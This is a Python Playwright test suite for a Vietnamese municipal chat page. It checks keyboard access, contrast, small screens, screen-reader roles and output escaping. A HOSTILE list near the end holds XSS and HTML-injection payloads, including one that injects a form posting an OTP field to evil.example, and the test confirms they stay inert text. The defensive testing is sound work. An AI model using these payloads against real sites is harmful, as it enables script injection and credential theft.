"""The chat page in a real browser: by keyboard alone, small, dark, read aloud, and with hostile words in it."""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from itertools import pairwise
from typing import Any

import pytest
import pytest_asyncio

from handlers.messages import Attachment, Choice, Outgoing
from tests.web_engine import FIVE
from tests.web_room import ASKED, TOLD, Room, chromium, focused, rooms, said, say, until

pytestmark = [pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Any]:
    async with chromium() as browser:
        yield browser


@pytest_asyncio.fixture(loop_scope="module")
async def make(browser: Any) -> AsyncIterator[Callable[..., Awaitable[Room]]]:
    async with rooms(browser) as make:
        yield make


@pytest_asyncio.fixture(loop_scope="module")
async def room(make: Callable[..., Awaitable[Room]]) -> Room:
    return await make(phone=lambda: "0299 3812 345")


async def test_by_keyboard_alone(room: Room) -> None:
    page = await room.opens()
    await page.keyboard.press("Tab")
    assert await focused(page) == "Đến ô gõ câu hỏi"
    await page.keyboard.press("Enter")
    assert await focused(page) == "words"
    await page.keyboard.type("khai sinh")
    await page.keyboard.press("Enter")
    await until(page, ASKED, TOLD)
    for _ in range(5):  # over "Gọi", "Về đầu", "Gặp cán bộ" to the choices, the last one first
        await page.keyboard.press("Shift+Tab")
    assert await focused(page) == "1Nộp ở đâu"
    ring = "(({outlineStyle, outlineWidth}) => outlineStyle + outlineWidth)(getComputedStyle(document.activeElement))"
    assert await page.evaluate(ring) == "solid3px"
    await page.wait_for_timeout(400)
    await page.keyboard.press("Enter")
    await until(page, ASKED, TOLD, "Anh/chị: Nộp ở đâu", "Máy: Nộp ở quầy một cửa.", "Máy: Anh/chị thấy sao?")
    await page.keyboard.press("Tab")
    assert await focused(page) == "5 – Rất hài lòng"
    await page.keyboard.press("Space")
    await page.wait_for_function("() => document.querySelectorAll('#log .mine').length === 3")
    assert [message.text for message in room.engine.accepted] == ["khai sinh", "noi 1.001193", "sao 5"]


async def test_a_link_is_opened_once(room: Room) -> None:
    page = await room.opens(at="/?start=g1_001193-9ad6-12-5")
    await until(page, "Anh/chị: Mở đường dẫn", "Máy: Máy nghe: /start g1_001193-9ad6-12-5")
    assert page.url == room.site.url + "/"
    await page.reload()
    await until(page, "Anh/chị: Mở đường dẫn", "Máy: Máy nghe: /start g1_001193-9ad6-12-5")
    assert [message.text for message in room.engine.accepted] == ["/start g1_001193-9ad6-12-5"]
    other = await room.opens(at="/?start=" + "x" * 65)
    assert await other.locator("#log .mine").count() == 0


async def test_focus_is_never_hidden_behind_what_stands_below(room: Room) -> None:
    page = await room.opens(viewport={"width": 360, "height": 640})
    await say(page, "dài")
    await page.wait_for_selector("#log .choices button")
    await page.keyboard.press("Control+Home")
    for _ in range(20):
        await page.keyboard.press("Tab")
        await page.wait_for_timeout(30)
        covered = await page.evaluate(
            """() => {
              const at = document.activeElement, box = at.getBoundingClientRect();
              const foot = document.querySelector("footer");
              return !foot.contains(at) && at !== document.body && box.bottom > foot.getBoundingClientRect().top + 1;
            }"""
        )
        assert not covered, await focused(page)


async def test_only_the_newest_choices_can_be_pressed_and_a_number_can_be_typed(room: Room) -> None:
    page = await room.opens()
    await say(page, "khai sinh")
    await until(page, ASKED, TOLD)
    assert await page.locator("#log .choices button").all_text_contents() == ["1Nộp ở đâu", "2Không có giấy chứng sinh"]
    await say(page, "1")
    await page.wait_for_selector("text=5 – Rất hài lòng")
    assert await page.locator(".choices button:visible").count() == 5
    await say(page, "chào")
    await page.wait_for_selector("text=Máy nghe: chào")
    assert await page.locator(".choices button:visible").count() == 5  # still what a typed number means


async def test_a_second_tap_does_not_pick_what_has_just_come_under_the_finger(room: Room) -> None:
    page = await room.opens()
    await page.evaluate(
        """() => new MutationObserver((changes) => changes.forEach((change) => change.addedNodes.forEach((node) => {
          if (node.matches?.(".choices")) node.firstChild.dispatchEvent(new MouseEvent("click", { detail: 1 }));
        }))).observe(document.getElementById("log"), { childList: true })"""
    )
    await say(page, "khai sinh")
    await page.wait_for_selector("text=Nộp ở đâu")
    await page.wait_for_timeout(500)
    assert [message.text for message in room.engine.accepted] == ["khai sinh"]
    await page.click("text=Nộp ở đâu")
    await page.wait_for_selector("text=5 – Rất hài lòng")
    assert [message.text for message in room.engine.accepted] == ["khai sinh", "noi 1.001193"]


# --- everybody can read and press it ----------------------------------------------------------------------------------

CONTRAST = """() => {
  const parse = (c) => c.match(/[\\d.]+/g).map(Number);
  const light = ([r, g, b]) => [r, g, b].map((v) => v / 255)
    .map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const ratio = (a, b) => {
    const [x, y] = [light(a), light(b)].sort((m, n) => n - m);
    return (x + 0.05) / (y + 0.05);
  };
  const ground = (node) => {
    for (; node; node = node.parentElement) {
      const c = parse(getComputedStyle(node).backgroundColor);
      if (c.length < 4 || c[3] === 1) return c;
    }
    return [255, 255, 255];
  };
  const low = [];
  let seen = 0;
  for (const node of document.querySelectorAll("body *")) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.textContent.trim());
    if (!own || !node.checkVisibility() || node.matches(".unseen")) continue;
    seen += 1;
    const style = getComputedStyle(node);
    const found = ratio(parse(style.color), ground(node));
    if (found < 4.5) low.push([node.textContent.slice(0, 30), found]);
  }
  for (const node of document.querySelectorAll("button, textarea, nav a")) {
    if (!node.checkVisibility()) continue;
    const style = getComputedStyle(node), around = ground(node.parentElement);
    const edge = Math.max(ratio(parse(style.borderTopColor), around), ratio(parse(style.backgroundColor), around));
    if (edge < 3) low.push([node.textContent || node.id, edge]);
  }
  return { low, seen };
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_contrast(make: Callable[..., Awaitable[Room]], scheme: str) -> None:
    room = await make(demo=True, phone=lambda: "0299 3812 345")
    page = await room.opens(color_scheme=scheme)
    found = await page.evaluate(CONTRAST)
    assert found["low"] == [] and found["seen"] > 8
    await say(page, "khai sinh")
    await page.wait_for_selector("text=Nộp ở đâu")
    room.engine.full = True
    await say(page, "chưa gửi được")
    await page.wait_for_selector("text=Thử lại ngay")
    await page.click("summary")
    found = await page.evaluate(CONTRAST)
    assert found["low"] == [] and found["seen"] > 12


SIZES = [
    # width, height, letters in per cent of the browser's own
    (320, 568, 100),
    (320, 568, 200),
    (640, 256, 100),
    (360, 640, 150),
    (360, 640, 200),
    (1280, 800, 200),
]


@pytest.mark.parametrize(("width", "height", "letters"), SIZES)
async def test_nothing_is_wider_than_the_window(
    make: Callable[..., Awaitable[Room]], width: int, height: int, letters: int
) -> None:
    room = await make(demo=True, phone=lambda: "0299 3812 345", unit_name=lambda: "phường Nguyễn Thị Minh Khai Đông")
    page = await room.opens(viewport={"width": width, "height": height})
    browser = await page.context.new_cdp_session(page)
    await browser.send("Page.setFontSizes", {"fontSizes": {"standard": 16 * letters // 100}})
    await say(page, "khai sinh")
    await page.wait_for_selector("text=Nộp ở đâu")
    room.engine.post(room.chat, Outgoing("x" * 400, FIVE, Attachment("b" * 80 + ".pdf", "application/pdf", b"1")))
    await page.wait_for_selector("text=5 – Rất hài lòng")
    await page.click("summary")
    wide = await page.evaluate(
        """() => [document.documentElement.scrollWidth - innerWidth, ...[...document.querySelectorAll("body *")]
          .filter((e) => e.checkVisibility() && !e.matches(".unseen, .skip"))
          .filter((e) => e.getBoundingClientRect().right > innerWidth + 1)
          .map((e) => e.outerHTML.slice(0, 80))]"""
    )
    assert wide == [0]
    clipped = await page.evaluate(
        "() => [...document.querySelectorAll('button, .text, nav a')].filter((e) => e.checkVisibility()"
        " && e.scrollWidth > e.clientWidth + 1).map((e) => e.textContent)"
    )
    assert clipped == []
    # what is typed, long as it is, stays in reach wherever one reads, and leaves most of the window to reading
    await page.fill("#words", "tôi muốn hỏi thêm một câu rất dài " * 20)
    await page.evaluate("scrollTo(0, 300)")
    top, bottom = await page.evaluate(
        "() => { const box = document.querySelector('form').getBoundingClientRect(); return [box.top, box.bottom]; }"
    )
    assert height * 0.6 - 1 <= top < bottom <= height + 1


async def test_what_is_pressed_is_as_large_as_a_thumb_and_one_under_another(room: Room) -> None:
    page = await room.opens(viewport={"width": 320, "height": 568})
    await say(page, "khai sinh")
    await page.wait_for_selector("text=Nộp ở đâu")
    await page.click("summary")
    boxes = await page.evaluate(
        """() => [...document.querySelectorAll("button, textarea, nav a, summary")].filter((e) => e.checkVisibility())
          .map((e) => [e.textContent, e.getBoundingClientRect().width, e.getBoundingClientRect().height])"""
    )
    assert len(boxes) >= 8
    assert [box for box in boxes if box[1] < 48 or box[2] < 48] == []
    assert await page.evaluate("parseFloat(getComputedStyle(document.querySelector('.text')).fontSize)") >= 18
    places = [await button.bounding_box() for button in await page.locator("#log .choices button").all()]
    assert all(below["y"] >= above["y"] + above["height"] for above, below in pairwise(places))


async def test_what_a_screen_reader_has(room: Room) -> None:
    page = await room.opens()
    await say(page, "khai sinh")
    await page.wait_for_selector("text=Nộp ở đâu")
    room.engine.post(room.chat, "một thông báo")
    await page.wait_for_selector("text=một thông báo")
    assert await page.get_by_role("log", name="Cuộc trò chuyện").count() == 1
    assert await page.get_by_role("textbox", name="Câu hỏi của anh/chị").count() == 1
    assert await page.get_by_role("button", name="Gửi").count() == 1
    assert await page.get_by_role("group", name="Anh/chị bấm hoặc gõ số").count() == 1
    assert await page.get_by_role("heading", name="Một cửa xã An Hòa").count() == 1
    assert await page.get_by_role("link", name="Gọi 0299 3812 345").count() == 1
    assert await page.get_by_role("status").count() == 1
    assert (await said(page))[-1] == "Máy: một thông báo"
    # what was said before is not read out again after a reload
    await page.add_init_script(
        """addEventListener("DOMContentLoaded", () => {
          const log = document.getElementById("log");
          window.spoken = 0;
          const watch = () => { if (log.ariaLive !== "off") window.spoken += 1; };
          new MutationObserver(watch).observe(log, { childList: true });
        })"""
    )
    await page.reload()
    await page.wait_for_function("() => document.getElementById('log').ariaLive === 'polite'")
    assert await page.evaluate("spoken") == 0 and len(await said(page)) == 3


async def test_calm_for_those_who_ask_for_it(room: Room) -> None:
    page = await room.opens(reduced_motion="reduce")
    room.engine.delay = 1
    await say(page, "khai sinh")
    await page.wait_for_selector("#busy:visible")
    assert await page.evaluate("document.getAnimations().length") == 0


# --- nothing that is said becomes anything but text -------------------------------------------------------------------

HOSTILE = [
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg/onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>bấm</a>",
    "javascript:pwned()",
    "</div></main><form action=https://evil.example><input name=otp></form>",
    "<style>*{display:none}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "\u202eđảo chữ\u202c https://evil.example",
    "--></noscript><img src=x onerror=pwned()>",
    "' onclick='pwned()' x='",
    '" autofocus onfocus="pwned()" x="',
    "data:text/html,<script>pwned()</script>",
    "event: message\ndata: {}\n\n",
]


async def test_hostile_words_stay_words(make: Callable[..., Awaitable[Room]]) -> None:
    room = await make(unit_name=lambda: HOSTILE[1], phone=lambda: HOSTILE[17], demo=True)
    page = await room.opens()
    await page.evaluate("window.pwned = () => { document.title = 'pwned'; }")
    tags = "document.querySelectorAll('script, img, iframe, svg, a, form, input, style, base, meta').length"
    before = await page.evaluate(tags)
    for n, text in enumerate(HOSTILE, 1):
        await say(page, text)
        # what is typed before the answer is there stands above it
        await page.wait_for_function("(n) => document.querySelectorAll('#log .text').length === n", arg=2 * n)
    for text in HOSTILE:
        room.engine.post(room.chat, Outgoing(text, tuple(Choice(text, f"k{n}") for n in range(2))))
    room.engine.post(room.chat, Outgoing("tệp", attachment=Attachment(HOSTILE[1], "text/html", b"1")))
    await page.wait_for_selector("a.file")
    texts = [text.strip() for text in HOSTILE]
    await until(
        page, *(line for text in texts for line in (f"Anh/chị: {text}", f"Máy: Máy nghe: {text}")),
        *(f"Máy: {text}" for text in HOSTILE), "Máy: tệp",
    )  # fmt: skip
    assert await page.evaluate(tags) == before + 1  # the link to the file
    await page.wait_for_timeout(400)
    await page.locator("#log .choices button").first.click()
    await page.reload()
    await page.wait_for_selector("a.file")
    assert await page.title() == f"Một cửa {HOSTILE[1]} – hỏi giấy tờ, xem hồ sơ"
    assert await page.locator("h1").text_content() == f"Một cửa {HOSTILE[1]}"
    assert all(url.startswith(room.site.url) for url in room.asked)


async def test_only_our_own_files_and_not_many(room: Room) -> None:
    page = await room.opens()
    await say(page, "khai sinh")
    await until(page, ASKED, TOLD)
    sizes = await page.evaluate(
        """() => [...performance.getEntriesByType("navigation"), ...performance.getEntriesByType("resource")]
          .filter((e) => !e.name.includes("/web/events") && !e.name.includes("/web/messages"))
          .map((e) => [e.name, e.decodedBodySize])"""
    )
    assert all(url.startswith(room.site.url) for url in room.asked)
    assert 10_000 < sum(size for _, size in sizes) <= 60_000 and len({name for name, _ in sizes}) == 4
